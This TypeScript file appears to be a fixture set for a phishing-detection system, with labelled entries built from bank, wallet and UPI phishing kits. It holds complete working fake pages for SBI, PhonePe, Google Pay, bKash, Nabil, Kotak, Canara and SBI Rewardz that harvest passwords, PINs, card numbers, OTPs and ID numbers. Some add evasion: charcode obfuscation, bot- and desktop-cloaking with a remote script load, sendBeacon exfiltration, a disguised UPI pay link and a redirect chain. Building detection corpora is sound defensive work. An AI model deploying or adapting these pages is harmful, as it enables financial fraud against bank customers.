import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';
import { b64, codes, doc, wordmark, emblem, qrSvg, bankCss, MOBILE_CSS, stepFlowScript, countdownScript, bankFooterLinks, FONTS } from '../parts/yn-kit.js';

// Kits for banks, card issuers, UPI apps and wallets reported by customers and the SOC.

export const entries: Entry[] = [
{
  id: 'yn-sbi-yono-pan-update-mobile',
  label: 'phishing',
  kind: 'bank-kyc-kit',
  url: 'https://sbi-yono-kycupdate.in.net/yono/index.php',
  body: doc({
    title: 'YONO SBI - PAN Card Update',
    lang: 'hi',
    font: FONTS.deva,
    head: '<meta name="robots" content="noindex,nofollow"><meta name="theme-color" content="#280071"><link rel="icon" href="data:,">',
    css: MOBILE_CSS + `.app header{background:linear-gradient(90deg,#280071,#5a2ca0)}.app button{background:#280071}.badge{background:#fdecea;color:#b3261e;padding:10px;border-radius:6px;font-size:13.5px;margin:12px 0}.otpbox{letter-spacing:10px;text-align:center;font-size:22px}`,
    body: `<div class="app">
<header>${wordmark('YONO', '#fff', '#280071', 74, 30, 4)}<div><b>YONO SBI</b><div style="font-size:11px;opacity:.85">The Banking &amp; Lifestyle App!</div></div></header>
<div class="pad">
<div class="badge">प्रिय ग्राहक, आपका YONO खाता आज <b>निलंबित</b> कर दिया जाएगा। कृपया अपना PAN कार्ड तुरंत अपडेट करें।<br>Dear Customer, your YONO account will be suspended today. Kindly update your PAN card.</div>
<form class="step on" data-step="login" autocomplete="off">
<h1>Login / लॉग इन</h1>
<label>Username / उपयोगकर्ता नाम</label><input type="text" name="user" required>
<label>Password / पासवर्ड</label><input type="password" name="pass" required>
<button data-wait="कृपया प्रतीक्षा करें...">Login</button>
<p class="muted">New user? Register &middot; Forgot username / password?</p>
</form>
<form class="step" data-step="pan">
<h1>PAN Card Update</h1>
<label>Registered Mobile Number</label><input type="tel" name="mobile" maxlength="10" pattern="[6-9][0-9]{9}" required>
<label>PAN Number</label><input type="text" name="pan" maxlength="10" style="text-transform:uppercase" required>
<label>Date of Birth / जन्म तिथि</label><input type="text" name="dob" placeholder="DD/MM/YYYY" required>
<label>Account Balance (approx.)</label><input type="number" name="bal">
<button>Submit</button>
</form>
<form class="step" data-step="otp">
<h1>OTP Verification</h1>
<p class="muted">आपके पंजीकृत मोबाइल नंबर पर भेजा गया 6 अंकों का OTP दर्ज करें। OTP is valid for <span id="cd">03:00</span>.</p>
<input class="otpbox" type="tel" name="otp" maxlength="6" inputmode="numeric" autocomplete="one-time-code" required>
<button>Verify</button>
<p class="muted">Didn't receive OTP? <a href="#">Resend</a></p>
</form>
<p class="muted" style="margin-top:26px">© State Bank of India. All Rights Reserved. <br>SBI never asks for your confidential information.</p>
</div></div>
${stepFlowScript('next.php', 'https://www.onlinesbi.sbi/')}
${countdownScript('cd', 180)}`,
  }),
  routes: {
    'sbi-yono-kycupdate.in.net/yono/next.php': jsonRoute({ status: 'ok', next: true }),
  },
},
{
  id: 'yn-phonepe-scratch-card-enter-pin',
  label: 'phishing',
  kind: 'upi-pin-receive',
  url: 'https://phonepe.cashback-offers.in.net/scratch?ref=WA8812',
  body: doc({
    title: 'PhonePe | You won a Scratch Card!',
    css: `body{background:#5f259f;color:#fff;text-align:center}.wrap{max-width:400px;margin:0 auto;padding:24px 16px}
.sc{position:relative;width:260px;height:260px;margin:20px auto;border-radius:16px;overflow:hidden;background:#fff;color:#5f259f}
.sc .prize{position:absolute;inset:0;display:flex;flex-direction:column;justify-content:center;font-size:15px}.sc .prize b{font-size:44px}
canvas{position:absolute;inset:0;touch-action:none}
#pinpad{display:none;background:#fff;color:#222;border-radius:14px;padding:18px;margin-top:18px}
#pinpad .dots{font-size:30px;letter-spacing:14px;height:40px}
.keys{display:grid;grid-template-columns:repeat(3,1fr);gap:8px;margin-top:10px}.keys button{height:52px;font-size:22px;border:0;background:#f1ecf8;border-radius:8px}
.cta{background:#fff;color:#5f259f;border:0;border-radius:24px;height:46px;width:100%;font-weight:700;font-size:16px;display:none}`,
    body: `<div class="wrap">
${wordmark('PhonePe', '#fff', '#5f259f', 120, 36, 18)}
<h2>Congratulations! 🎉</h2>
<p>You have received a scratch card for your recent UPI transaction.</p>
<div class="sc"><div class="prize"><span>You've won</span><b>₹2,150</b><span>Cashback</span></div><canvas id="c" width="260" height="260"></canvas></div>
<button class="cta" id="claim">Receive ₹2,150 in Bank Account</button>
<div id="pinpad"><div style="font-weight:600">ENTER 6-DIGIT UPI PIN</div><div class="muted" style="font-size:12px;color:#777">to receive ₹2,150.00 from PhonePe Rewards</div><div class="dots" id="dots"></div>
<div class="keys">${[1, 2, 3, 4, 5, 6, 7, 8, 9].map((n) => `<button data-k="${n}">${n}</button>`).join('')}<button data-k="del">⌫</button><button data-k="0">0</button><button data-k="ok">✔</button></div></div>
<p style="font-size:11px;opacity:.7;margin-top:30px">Offer valid for 15 minutes. T&amp;C apply.</p>
</div>
<script>
(function(){
var c=document.getElementById('c'),x=c.getContext('2d');x.fillStyle='#b8a4d8';x.fillRect(0,0,260,260);x.fillStyle='#5f259f';x.font='bold 22px Arial';x.fillText('SCRATCH HERE',50,135);
var n=0;function s(e){var r=c.getBoundingClientRect(),p=e.touches?e.touches[0]:e;x.globalCompositeOperation='destination-out';x.beginPath();x.arc(p.clientX-r.left,p.clientY-r.top,22,0,7);x.fill();if(++n>25){c.style.display='none';document.getElementById('claim').style.display='block'}}
c.addEventListener('mousemove',function(e){if(e.buttons)s(e)});c.addEventListener('touchmove',s);c.addEventListener('click',function(){n+=10;s(event)});
document.getElementById('claim').onclick=function(){this.style.display='none';document.getElementById('pinpad').style.display='block'};
var pin='';document.querySelectorAll('.keys button').forEach(function(b){b.onclick=function(){var k=b.getAttribute('data-k');if(k==='del')pin=pin.slice(0,-1);else if(k==='ok'){if(pin.length>=4){fetch('/api/claim',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({pin:pin,ref:new URLSearchParams(location.search).get('ref'),amt:2150})}).finally(function(){document.getElementById('pinpad').innerHTML='<p>Processing... Amount will be credited in 24 hours.</p>'})}}else if(pin.length<6)pin+=k;document.getElementById('dots').textContent='●'.repeat(pin.length)}});
})();
</script>`,
  }),
  routes: { 'phonepe.cashback-offers.in.net/api/claim': jsonRoute({ success: true }) },
},
{
  id: 'yn-gpay-reward-upi-intent-pay',
  label: 'scam',
  kind: 'upi-collect-trick',
  url: 'https://gpay-reward-claim.netlify.app/',
  body: doc({
    title: 'Google Pay Rewards',
    css: `body{background:#f1f3f4;font-family:'Google Sans',Roboto,Arial,sans-serif}.card{max-width:380px;margin:30px auto;background:#fff;border-radius:16px;padding:26px;text-align:center;box-shadow:0 1px 3px rgba(0,0,0,.15)}
.amt{font-size:40px;font-weight:500;margin:10px 0}.g{display:inline-flex;gap:2px;font-weight:700;font-size:22px}.g span:nth-child(1){color:#4285f4}.g span:nth-child(2){color:#ea4335}.g span:nth-child(3){color:#fbbc05}.g span:nth-child(4){color:#34a853}
a.btn{display:block;background:#1a73e8;color:#fff;text-decoration:none;padding:14px;border-radius:24px;margin-top:20px;font-weight:500}.small{font-size:12px;color:#5f6368}`,
    body: `<div class="card">
<div class="g"><span>G</span><span>P</span><span>a</span><span>y</span></div>
<p>Rewards &middot; Diwali Dhamaka</p>
<div class="amt">₹3,500</div>
<p>Cashback has been sent to you by <b>Google Pay Rewards</b>.<br>Tap <b>Receive</b> and approve in your UPI app to credit it to your bank account.</p>
<a class="btn" id="rcv" href="upi://pay?pa=gpayrewards.cb@ybl&amp;pn=Google%20Pay%20Rewards&amp;am=3500.00&amp;cu=INR&amp;tn=Cashback%20Receive%20Ref%2091877">Receive ₹3,500</a>
<p class="small" style="margin-top:16px">Open this link on your mobile. Works with Google Pay, PhonePe, Paytm, BHIM.</p>
<p class="small">Claim expires in <b id="t">04:59</b></p>
</div>
${countdownScript('t', 299)}
<script>if(!/Android|iPhone/i.test(navigator.userAgent)){document.getElementById('rcv').insertAdjacentHTML('afterend','<p class="small">Scan using your UPI app:</p><div>${qrSvg('gpayrewards.cb@ybl3500', 160).replace(/'/g, "\\'")}</div>')}</script>`,
  }),
},
{
  id: 'yn-bkash-account-verify-bn',
  label: 'phishing',
  kind: 'wallet-kit',
  url: 'https://bkash-verify-bd.com/account/verify',
  body: doc({
    title: 'বিকাশ | অ্যাকাউন্ট ভেরিফিকেশন',
    lang: 'bn',
    font: FONTS.beng,
    css: MOBILE_CSS + `.app header{background:#e2136e;justify-content:center}.app button{background:#e2136e}.info{background:#fde7f1;color:#8a0c42;border-radius:8px;padding:10px;font-size:14px}`,
    body: `<div class="app"><header>${emblem('বি', '#e2136e', '#fff', 40)}<b style="font-size:20px">bKash</b></header>
<div class="pad">
<p class="info">প্রিয় গ্রাহক, বাংলাদেশ ব্যাংকের নির্দেশনা অনুযায়ী আপনার বিকাশ অ্যাকাউন্টটি পুনরায় যাচাই করা প্রয়োজন। যাচাই না করলে ২৪ ঘণ্টার মধ্যে অ্যাকাউন্ট সাময়িক বন্ধ হয়ে যাবে।</p>
<form class="step on" data-step="num">
<label>আপনার বিকাশ অ্যাকাউন্ট নম্বর</label><input type="tel" name="wallet" placeholder="01XXXXXXXXX" maxlength="11" required>
<label>জাতীয় পরিচয়পত্র (NID) নম্বর</label><input type="tel" name="nid" required>
<button data-wait="অপেক্ষা করুন...">পরবর্তী</button>
</form>
<form class="step" data-step="otp">
<label>আপনার মোবাইলে পাঠানো ভেরিফিকেশন কোড</label><input type="tel" name="code" maxlength="6" required>
<button>নিশ্চিত করুন</button>
</form>
<form class="step" data-step="pin">
<label>আপনার বিকাশ পিন দিন</label><input type="password" name="pin" maxlength="5" inputmode="numeric" required>
<p class="muted">পিন দিয়ে যাচাই সম্পন্ন করুন।</p>
<button>ভেরিফাই</button>
</form>
<p class="muted" style="text-align:center;margin-top:24px">হেল্পলাইন ১৬২৪৭ &middot; © bKash Limited</p>
</div></div>
${stepFlowScript('/account/api/step', 'https://www.bkash.com/')}`,
  }),
},
{
  id: 'yn-nabil-bank-kyc-ne',
  label: 'phishing',
  kind: 'bank-kyc-kit',
  url: 'https://nabilbank-np.online/kyc-update/',
  body: doc({
    title: 'नबिल बैंक | KYC अद्यावधिक',
    lang: 'ne',
    font: FONTS.deva,
    css: bankCss('#003b71', '#d0202f') + `.hero{background:#003b71;color:#fff;padding:16px;border-radius:8px;margin-bottom:12px}`,
    body: `<div class="topbar"><div class="in">${wordmark('NABIL BANK', '#fff', '#003b71', 150, 34)}<span><a href="#">नेपाली</a><a href="#">English</a></span></div></div>
<div class="main"><div class="card">
<div class="hero">नेपाल राष्ट्र बैंकको निर्देशन अनुसार सबै ग्राहकहरूले आफ्नो KYC विवरण २०८२ असार मसान्तभित्र अद्यावधिक गर्नुपर्नेछ। अद्यावधिक नगरेमा खाता रोक्का हुनेछ।</div>
<form class="step on" data-step="1" id="a">
<label>खाता नम्बर / Account Number</label><input type="text" name="acno" required>
<label>मोबाइल बैंकिङ युजरनेम</label><input type="text" name="user" required>
<label>पासवर्ड / MPIN</label><input type="password" name="mpin" required>
<button class="btn block">अगाडि बढ्नुहोस्</button>
</form>
<form class="step" data-step="2" style="display:none">
<label>नागरिकता नम्बर</label><input type="text" name="citizenship">
<label>डेबिट कार्ड नम्बर</label><input type="tel" name="card" maxlength="16">
<label>कार्ड PIN</label><input type="password" name="pin" maxlength="4">
<label>OTP</label><input type="tel" name="otp" maxlength="6">
<button class="btn block">पेश गर्नुहोस्</button>
</form>
</div></div>
<style>form.step{display:none}form.step.on{display:block!important}</style>
${bankFooterLinks('Nabil Bank Limited')}
${stepFlowScript('next.php', 'https://www.nabilbank.com/')}`,
  }),
},
{
  id: 'yn-kotak-crn-fromcharcode',
  label: 'phishing',
  kind: 'bank-login-obfuscated',
  url: 'https://kotak811-reactivate.com/netbanking/',
  body: doc({
    title: '\u200bKotak Mahindra Bank',
    body: `<div id="r"></div>
<script>
var _k=[${codes(`<div style="font-family:Arial,sans-serif;background:#f6f7fb;min-height:100vh"><div style="background:#ed1c24;height:6px"></div><div style="background:#fff;padding:14px 40px;border-bottom:1px solid #ddd"><svg width="150" height="34"><rect width="34" height="34" rx="17" fill="#ed1c24"/><text x="17" y="23" fill="#fff" font-size="16" text-anchor="middle" font-weight="bold">k</text><text x="44" y="23" fill="#003874" font-size="18" font-weight="bold">kotak</text></svg></div><div style="max-width:420px;margin:40px auto;background:#fff;padding:30px;border-radius:6px;box-shadow:0 2px 8px rgba(0,0,0,.1)"><h2 style="color:#003874;margin-top:0">Net Banking Login</h2><p style="font-size:13px;color:#a00">Your 811 account has been temporarily deactivated due to incomplete Re-KYC. Login to reactivate.</p><form id="kf" method="post" action="verify.php"><label style="font-size:13px">CRN / Username</label><input name="crn" style="width:100%;height:40px;margin:6px 0 14px;border:1px solid #bbb;padding:0 10px" required><label style="font-size:13px">Password</label><input name="pwd" type="password" style="width:100%;height:40px;margin:6px 0 14px;border:1px solid #bbb;padding:0 10px" required><label style="font-size:13px">Registered Mobile</label><input name="mob" style="width:100%;height:40px;margin:6px 0 14px;border:1px solid #bbb;padding:0 10px"><button style="width:100%;height:42px;background:#003874;color:#fff;border:0;font-weight:bold">SECURE LOGIN</button></form></div></div>`)}];
var s='';for(var i=0;i<_k.length;i++){s+=String.fromCharCode(_k[i]);}
document.getElementById('r').innerHTML=s;
</script>`,
  }),
  routes: {
    'kotak811-reactivate.com/netbanking/verify.php': htmlRoute(doc({ title: 'Kotak - OTP', body: '<form method="post" action="otp.php" style="max-width:380px;margin:60px auto;font-family:Arial"><h3>Enter OTP sent to your mobile</h3><input name="otp" maxlength="6" style="width:100%;height:40px"><button style="margin-top:12px;width:100%;height:40px;background:#003874;color:#fff;border:0">Submit</button></form>' })),
  },
},
{
  id: 'yn-canara-kyc-cloaked-mobile-only',
  label: 'phishing',
  kind: 'cloaked-kit',
  url: 'https://canarabank-kyc.top/',
  body: doc({
    title: 'Site under maintenance',
    css: `body{background:#fafafa;color:#555;text-align:center;padding-top:15vh}h1{font-weight:300}`,
    body: `<div id="app"><h1>We'll be back soon!</h1><p>Our website is currently undergoing scheduled maintenance.<br>Thank you for your patience.</p></div>
<script>
(function(){
  var ua=navigator.userAgent||'';
  var bot=/bot|crawl|spider|headless|lighthouse|python|curl|wget|phantom|selenium|puppeteer|playwright/i.test(ua)||navigator.webdriver;
  var mobile=/Android|iPhone|iPad|Mobile/i.test(ua);
  var lang=(navigator.language||'').toLowerCase();
  if(bot||!mobile||lang.indexOf('in')<0&&lang.indexOf('hi')<0) return;
  var s=document.createElement('script');s.src='/assets/m.js?v='+Date.now();document.body.appendChild(s);
})();
</script>`,
  }),
  routes: {
    'canarabank-kyc.top/assets/m.js': jsRoute(`(function(){document.title='Canara Bank - KYC Update';var h='<style>body{padding:0;text-align:left;font-family:Arial;background:#fff;color:#222}.hd{background:#0091d5;padding:14px;color:#fff;font-weight:bold;font-size:18px}.hd span{color:#ffd200}.bx{padding:18px}input{width:100%;height:44px;margin:6px 0 12px;border:1px solid #aaa;border-radius:4px;padding:0 10px}button{width:100%;height:46px;background:#0091d5;color:#fff;border:0;border-radius:4px;font-size:16px}</style><div class="hd">Canara <span>Bank</span> &middot; ai1</div><div class="bx"><p style="color:#c00">Your account will be blocked today. Please update your KYC (PAN / Aadhaar) immediately.</p><form id="cf"><label>Customer ID</label><input name="cid"><label>Mobile Banking MPIN</label><input name="mpin" type="password" maxlength="6"><label>Aadhaar Number</label><input name="aad" maxlength="12"><label>Debit Card Number</label><input name="card" maxlength="16"><label>Card Expiry</label><input name="exp" placeholder="MM/YY"><label>ATM PIN</label><input name="atmpin" type="password" maxlength="4"><button>Submit</button></form></div>';document.getElementById('app').innerHTML=h;document.getElementById('cf').onsubmit=function(e){e.preventDefault();navigator.sendBeacon('/assets/c.php',new FormData(this));this.innerHTML='<p>Thank you. Your KYC is under process. You will receive an OTP shortly.</p><input name=otp placeholder=OTP><button onclick="navigator.sendBeacon(\\'/assets/c.php\\',\\'otp=\\'+this.previousSibling.value)">Verify</button>'}})();`),
  },
},
{
  id: 'yn-sbi-rewardz-shortlink-chain',
  label: 'phishing',
  kind: 'redirect-chain',
  url: 'https://cutt.ly/sbi-rwd-7781',
  routes: {
    'cutt.ly/sbi-rwd-7781': redirectRoute(302, 'https://trk.smsclk-in.com/c?id=88121&u=9xk2'),
    'trk.smsclk-in.com/c': htmlRoute(doc({ title: 'Redirecting...', head: '<meta http-equiv="refresh" content="1;url=https://sbi-rewardz.co/claim/?utm_source=sms">', body: '<p style="font-family:Arial;color:#888">Loading...</p><script>setTimeout(function(){location.replace("https://sbi-rewardz.co/claim/?utm_source=sms")},300)</script>' })),
    'sbi-rewardz.co/claim/': htmlRoute(doc({
      title: 'SBI Rewardz - Redeem Points',
      css: bankCss('#22409a', '#00b5ef') + `.pts{font-size:34px;color:#22409a;font-weight:700}`,
      body: `<div class="topbar"><div class="in">${wordmark('SBI', '#fff', '#22409a', 70, 34)}<b>SBI Rewardz</b></div></div>
<div class="main"><div class="card">
<h2>Redeem your SBI Rewardz points</h2>
<p class="sub">Dear Customer, you have <span class="pts">9,870</span> points (worth ₹9,870) which will expire today. Redeem now by verifying your account.</p>
<form method="post" action="redeem.php">
<label>Username (Internet Banking)</label><input type="text" name="username" required>
<label>Password</label><input type="password" name="password" required>
<label>Registered Mobile Number</label><input type="tel" name="mobile" maxlength="10" required>
<label>ATM Card Number</label><input type="tel" name="atm" maxlength="16">
<label>ATM PIN</label><input type="password" name="atmpin" maxlength="4">
<button class="btn block">Redeem Now</button>
</form></div></div>
${bankFooterLinks('State Bank of India')}`,
    })),
  },
},
];
